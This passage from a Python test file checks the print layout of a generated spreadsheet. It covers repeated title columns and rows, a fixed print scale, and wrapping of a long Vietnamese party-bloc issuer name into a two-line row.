    assert [c.value for c in matrix[head]][3:] == [u["code"] for u in units]
    assert matrix.print_title_cols == "$A:$C"  # code, criterion and max on every page width
    assert matrix.print_title_rows == f"${head}:${head}"
    assert not matrix.sheet_properties.pageSetUpPr.fitToPage  # a fixed scale: legible, not squeezed to one width


def test_a_long_issuer_wraps_into_a_row_as_tall_as_its_lines(tmp_path):
    """"KHỐI THI ĐUA CÁC CƠ QUAN ĐẢNG HUYỆN GIO LINH" takes two lines of bold capitals in the left block: its row
    is two lines tall, never one with the top line cut (capitals are wider than running text)."""
    rules = rules_from(language="vi", header="party", parent="Huyện ủy Gio Linh",
                       issuer="Khối thi đua các cơ quan Đảng huyện Gio Linh")
    sheet = write_run(rules, tmp_path, {"A": values(**FULL_SMALL)}).book.worksheets[0]
    row = next(cell.row for cell in sheet["A"] if cell.value == "KHỐI THI ĐUA CÁC CƠ QUAN ĐẢNG HUYỆN GIO LINH")
    assert sheet.row_dimensions[row].height >= row_height(2)
    assert sheet.row_dimensions[row - 1].height < row_height(2)  # the parent's short line stays one line
